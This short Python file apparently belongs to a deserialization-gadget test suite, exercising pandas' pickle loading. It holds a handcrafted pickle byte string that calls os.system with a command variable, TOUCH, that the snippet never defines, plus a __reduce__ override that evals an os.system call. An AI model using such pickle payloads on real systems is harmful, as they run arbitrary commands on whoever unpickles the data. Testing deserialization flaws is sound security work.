# kind: gadgets
# tries: A pickle run by pandas through the reduce of a column's object

import json

import pandas as pd

frame = pd.DataFrame({"a": [1]})
frame.__reduce__ = lambda: (eval, (f"__import__('os').system({TOUCH!r})",))
print(json.dumps(frame.to_dict()))
loads = pd.io.pickle.pickle.loads
loads(b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.")
